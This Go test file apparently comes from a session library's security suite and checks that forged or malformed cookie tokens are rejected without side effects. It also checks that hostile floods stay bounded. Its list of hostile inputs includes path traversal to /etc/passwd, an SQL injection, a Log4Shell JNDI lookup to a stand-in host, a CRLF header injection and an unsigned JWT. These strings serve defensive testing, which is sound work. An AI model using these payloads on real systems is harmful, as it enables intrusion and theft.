package security_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"example.com/session"
	"example.com/session/internal/suites/kit"
)

// hostileValues are what a client may send in place of a token, by what they try. None of them can
// be a token of ours.
func hostileValues() map[string]string {
	token := inventedToken()
	return map[string]string{
		"nothing":              "",
		"a character":          "A",
		"one too short":        token[:55],
		"one too long":         token + "A",
		"two tokens":           token + token,
		"the id alone":         token[:22],
		"a token of 32 bytes":  token[:43],
		"padding":              token + "=",
		"standard alphabet":    "+/" + token[2:],
		"a quote at the end":   token[:55] + `"`,
		"a space inside":       token[:20] + " " + token[21:],
		"a tab inside":         token[:20] + "\t" + token[21:],
		"percent":              "%41" + token[3:],
		"over-long":            strings.Repeat("A", 5000),
		"100 kB":               strings.Repeat("A", 100_000),
		"parent directory":     "../../../../../../etc/passwd",
		"backslashes":          `..\..\..\windows\win.ini`,
		"absolute path":        "/etc/passwd",
		"56 bytes of path":     "../" + token[3:],
		"56 dots":              strings.Repeat(".", 56),
		"every key":            "*",
		"56 bytes of pattern":  strings.Repeat("[a-z]?*", 8),
		"a key of a store":     "session:session:" + token,
		"an index":             "user:" + token[:43],
		"braces":               "{" + token[:54] + "}",
		"non-ASCII":            strings.Repeat("é", 28),
		"high bytes":           strings.Repeat("\xff", 56),
		"a wide space":         "\u2000" + token[:53],
		"JSON":                 `{"user":"eve"}`,
		"serialized PHP":       `O:8:"stdClass":1:{s:4:"user"}`,
		"an unsealed record":   base64.RawURLEncoding.EncodeToString(append([]byte{2}, make([]byte, 61)...)),
		"Fernet":               "gAAAAABnbZ" + strings.Repeat("A", 90),
		"JWT without a seal":   "eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiZXZlIn0.",
		"another version":      base64.RawURLEncoding.EncodeToString(append([]byte{9}, make([]byte, 120)...)),
		"an unknown key":       base64.RawURLEncoding.EncodeToString(append([]byte{2}, make([]byte, 120)...)),
		"an SQL":               "' OR 1=1 --",
		"a template":           "${jndi:ldap://evil.example/a}",
		"a header":             "a%0d%0aSet-Cookie:%20s_memory=x",
		"a hint":               "1",
		"the name of a cookie": "s_memory",
	}
}

// Reading under a token that nobody issued finds nothing, stores nothing and sets nothing. The
// cookie is left alone: it may be another application's.
func TestReadingUnderAHostileTokenLeavesNoTrace(t *testing.T) {
	kit.Everywhere(t, func(t *testing.T, s *kit.Site) {
		s.SignIn()
		before := s.Stored()
		for what, value := range hostileValues() {
			p := rawRequest(s, func(own *session.Session) {
				assert.Empty(t, own.All())
				assert.True(t, own.IsNew())
				assert.NoError(t, own.Err())
			}, s.Cookie+"="+value)
			assert.Equal(t, http.StatusOK, p.StatusCode, what)
			assert.Empty(t, p.Cookies(), what)
		}
		assert.Equal(t, before, s.Stored())
		assert.Zero(t, s.Manager.Stats().Tampered)
	})
}

// Storing something begins a session with a token of the server's own.
func TestAHostileTokenIsNeverAdopted(t *testing.T) {
	kit.Everywhere(t, func(t *testing.T, s *kit.Site) {
		for what, value := range hostileValues() {
			cookie := s.Cookie + "=" + value
			p := rawRequest(s, func(own *session.Session) { own.Set("user", "eve"); own.Regenerate() }, cookie)
			issued := s.Token(p)
			assert.NotEqual(t, cookie, issued, what)
			assert.Equal(t, "eve", s.User(issued), what)
			rawRequest(s, func(own *session.Session) { assert.Empty(t, own.All(), what) }, cookie)
		}
	})
}

// A made-up token of the right form is as dead as one of the wrong form, and a sign-out with it
// writes nothing.
func TestInventedTokensAreNotAdoptedAndNotStored(t *testing.T) {
	var events *kit.EventBook
	kit.OnServers(t, func(t *testing.T, s *kit.Site) {
		before := s.Stored()
		for range 300 {
			p := s.Ask(s.Cookie+"="+inventedToken(), func(own *session.Session) {
				assert.Empty(t, own.All())
				own.Destroy()
			})
			assert.Equal(t, http.StatusOK, p.StatusCode)
		}
		assert.Equal(t, before, s.Stored(), "looking and signing out leave nothing")
		assert.Empty(t, events.Of(session.EventEnded), "nothing has ended")
		assert.NotEmpty(t, events.Of(session.EventUnknown))
		for _, e := range events.Of(session.EventUnknown) {
			assert.Empty(t, e.Handle, "it is no session's")
		}

		made := inventedToken()
		issued := s.Token(s.Ask(s.Cookie+"="+made, func(own *session.Session) { own.Set("user", "eve") }))
		assert.NotEqual(t, rawToken(t, made)[:idBytes], rawToken(t, kit.ValueOf(issued))[:idBytes])
		assert.Empty(t, s.User(s.Cookie+"="+made))
	}, func(cfg *session.Config) { events = kit.RecordEvents(cfg) })
}

// The id of a live session with an invented secret is no more than an invented token.
func TestAWrongSecretChangesAndEndsNothing(t *testing.T) {
	var events *kit.EventBook
	kit.OnServers(t, func(t *testing.T, s *kit.Site) {
		cookie := signedIn(s, "ann")
		stored := dumpOrNil(s)
		for _, do := range []func(*session.Session){
			read, (*session.Session).Destroy, (*session.Session).Logout,
			func(own *session.Session) { own.Get("k"); own.Logout() },
		} {
			s.Ask(withOtherSecret(t, cookie), do)
		}
		assert.Equal(t, stored, dumpOrNil(s))
		assert.Equal(t, "ann", userOf(s, cookie))
		assert.Empty(t, events.Of(session.EventEnded))
		assert.Len(t, kit.Handles(t, s.Manager, "ann"), 1)
	}, func(cfg *session.Config) { events = kit.RecordEvents(cfg) })
}

// dumpOrNil is dump on the drivers whose content can be seen.
func dumpOrNil(s *kit.Site) []string {
	if s.Config.Default == "memory" {
		return nil
	}
	return dump(s)
}

// Shape is checked before anything else: what cannot be a token costs a store nothing.
func TestNothingMalformedReachesAStore(t *testing.T) {
	s := kit.NewSite(t, "store")
	for _, value := range hostileValues() {
		rawRequest(s, func(own *session.Session) { own.Get("k"); own.Destroy() }, s.Cookie+"="+value)
	}
	assert.Zero(t, s.Manager.Stats().Loads)
	assert.Zero(t, s.Manager.Stats().Ended)
}

// However many cookies come, at most four are looked up, nothing live is guessed among several, and
// the response is that to a visitor.
func TestThousandsOfCookiesAreBoundedWork(t *testing.T) {
	kit.Everywhere(t, func(t *testing.T, s *kit.Site) {
		cookie := s.SignIn()
		before := s.Stored()
		for _, n := range []int{4, 5, 100, 2900, 3100, 20_000} {
			pairs := make([]string, n)
			for i := range pairs {
				pairs[i] = s.Cookie + "=" + inventedToken()
			}
			pairs[n/2] = cookie
			lines := [][]string{{strings.Join(pairs, "; ")}}
			if n <= 100 {
				lines = append(lines, pairs) // a header line for each
			}
			want := any(nil)
			if n == 4 {
				want = "ann" // the only live one
			}
			for _, lines := range lines {
				loads := s.Manager.Stats().Loads
				p := rawRequest(s, func(own *session.Session) { assert.Equal(t, want, own.Get("user")) }, lines...)
				if n < 20_000 {
					assert.Equal(t, http.StatusOK, p.StatusCode, n)
				} else {
					assert.Contains(t, []int{http.StatusOK, http.StatusRequestHeaderFieldsTooLarge}, p.StatusCode)
				}
				assert.LessOrEqual(t, s.Manager.Stats().Loads-loads, uint64(4), n)
			}
		}
		assert.Equal(t, before, s.Stored())
		assert.Equal(t, "ann", s.User(cookie))
	})
}

// A cookie that cannot be opened is answered in one way, whatever is wrong with it.
func TestEveryFailedOpeningLooksTheSame(t *testing.T) {
	kit.Everywhere(t, func(t *testing.T, s *kit.Site) {
		values := hostileValues()
		values["invented"] = inventedToken()
		maps.Copy(values, alteredValues(t, s))
		responses := make(map[string][]string)
		for what, value := range values {
			p := s.Visit(s.Cookie+"="+strings.Map(sendable, value), func(w http.ResponseWriter, _ *http.Request, own *session.Session) {
				fmt.Fprint(w, own.All(), own.IsNew(), own.Open(), own.Err())
			})
			p.Header.Del("Date")
			response := fmt.Sprint(p.StatusCode, p.Header, p.Body)
			responses[response] = append(responses[response], what)
		}
		assert.Len(t, responses, 1, "%v", responses)
		for response := range responses {
			assert.NotContains(t, response, "Set-Cookie", "it is left alone")
		}
	})
}

// alteredValues are those of a live cookie with a character changed, and on the cookie driver also
// one from the future, one of another name and one of a retired secret.
func alteredValues(t *testing.T, s *kit.Site) map[string]string {
	t.Helper()
	value := kit.ValueOf(s.SignIn())
	values := map[string]string{"truncated": value[:len(value)-1], "extended": value + "A"}
	for _, at := range []int{0, 3, 10, 30, 40, len(value) - 2} {
		values[fmt.Sprint("altered at ", at)] = alteredAt(value, at)
	}
	if s.Config.Default != "cookie" {
		return values
	}
	other := kit.NewSite(t, "cookie", func(cfg *session.Config) { cfg.CookieAttributes.Prefix = "other_" })
	values["other name"] = kit.ValueOf(other.SignIn())
	retired := kit.NewSite(t, "cookie", func(cfg *session.Config) { cfg.Secret = session.NewSecret() })
	values["retired secret"] = kit.ValueOf(retired.SignIn())
	future := kit.NewSite(t, "cookie")
	future.Clock.Advance(6 * time.Minute)
	values["from the future"] = kit.ValueOf(future.SignIn())
	return values
}

// alteredAt changes one character of a value to another one of the alphabet.
func alteredAt(value string, at int) string {
	changed := []byte(value)
	changed[at] = 'A'
	if value[at] == 'A' {
		changed[at] = 'B'
	}
	return string(changed)
}

func TestWhatClientsCauseIsCounted(t *testing.T) {
	kit.OnServers(t, func(t *testing.T, s *kit.Site) {
		cookie := s.SignIn()
		s.User(s.Cookie + "=" + inventedToken())
		s.User(s.Cookie + "=not-a-token")
		s.User(cookie + "; " + s.Cookie + "=" + inventedToken())
		s.Ask(cookie, (*session.Session).Destroy)
		stats := s.Manager.Stats()
		assert.EqualValues(t, 2, stats.Unknown)
		assert.Zero(t, stats.Tampered)
		assert.EqualValues(t, 1, stats.Duplicates)
		assert.EqualValues(t, 1, stats.Ended)
	})
}

// What clients can cause is logged once a minute a kind, with a count: a flood of bad cookies is no
// flood of log lines.
func TestAFloodOfBadCookiesIsNotAFloodOfLogLines(t *testing.T) {
	var log *kit.LogBook
	s := kit.NewSite(t, "cookie", func(cfg *session.Config) { log = kit.CaptureLog(cfg) })
	bad := s.Cookie + "=" + alteredAt(kit.ValueOf(s.SignIn()), 90)
	for range 100 {
		s.User(bad)
	}
	s.Clock.Advance(time.Minute)
	s.User(bad)
	lines := strings.Split(strings.TrimSpace(log.Text()), "\n")
	assert.Len(t, lines, 2)
	assert.Contains(t, lines[1], "more_since_last=99")
	assert.NotContains(t, log.Text(), kit.ValueOf(bad)[:20])
	assert.EqualValues(t, 101, s.Manager.Stats().Tampered)
}

// A crowd of hostile clients at once leaves the memory as it was, and the users signed in.
func TestAFloodOfHostileRequestsIsBoundedInMemory(t *testing.T) {
	kit.Everywhere(t, func(t *testing.T, s *kit.Site) {
		cookie := s.SignIn()
		before := s.Stored()
		values := slices.Collect(maps.Values(hostileValues()))
		server := httptest.NewServer(s.Manager.Middleware(kit.HTTPHandler(func(own *session.Session) {
			if own.Has("user") {
				t.Error("somebody got a session")
			}
		})))
		defer server.Close()
		flood(t, server, s.Cookie, values) // fills what grows once
		heap := heapInUse()
		for range 4 {
			flood(t, server, s.Cookie, values)
		}
		assert.Less(t, heapInUse(), heap+8<<20)
		assert.Equal(t, before, s.Stored())
		assert.Equal(t, "ann", s.User(cookie))
	})
}

// flood sends some hundred requests from several clients at once.
func flood(t *testing.T, server *httptest.Server, name string, values []string) {
	var clients sync.WaitGroup
	for client := range 4 {
		clients.Go(func() {
			for i := client; i < 200; i += 4 {
				value := values[i%len(values)]
				if i%3 == 0 {
					value = inventedToken()
				}
				r, err := http.NewRequest(http.MethodGet, server.URL, nil)
				if err != nil {
					t.Error(err)
					return
				}
				r.Header["Cookie"] = []string{name + "=" + strings.Map(sendable, value)}
				response, err := server.Client().Transport.RoundTrip(r)
				if err != nil {
					t.Error(err)
					return
				}
				io.Copy(io.Discard, response.Body)
				response.Body.Close()
			}
		})
	}
	clients.Wait()
}

// sendable drops what net/http's client does not send.
func sendable(r rune) rune {
	if r < ' ' || r == 0x7f {
		return -1
	}
	return r
}

func heapInUse() uint64 {
	runtime.GC()
	runtime.GC()
	var stats runtime.MemStats
	runtime.ReadMemStats(&stats)
	return stats.HeapAlloc
}
